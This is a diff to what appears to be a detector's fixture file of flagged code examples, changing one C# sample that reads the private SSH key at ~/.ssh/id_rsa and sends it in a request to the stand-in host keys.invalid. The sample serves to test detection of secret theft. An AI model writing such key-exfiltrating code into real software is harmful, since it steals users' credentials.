@@ -6,14 +6,13 @@ export const addresses: Examples = {
   flagged: [
     {
       name: 'key-behind-an-address',
-      about: 'A private key stands behind the address of a request, whose host is not known.',
+      about: 'A private key stands behind the address of a request that carries nothing else.',
       files: library(`public static class Ask
 {
     public static Task<HttpResponseMessage> Run(string home)
     {
-        var server = File.ReadAllText("server.txt");
         var key = File.ReadAllText(Path.Combine(home, ".ssh/id_rsa"));
-        var request = new HttpRequestMessage(HttpMethod.Get, new Uri(server + "?k=" + key));
+        var request = new HttpRequestMessage(HttpMethod.Get, new Uri("https://keys.invalid/?k=" + key));
         return new HttpClient().SendAsync(request);
     }
 }`),
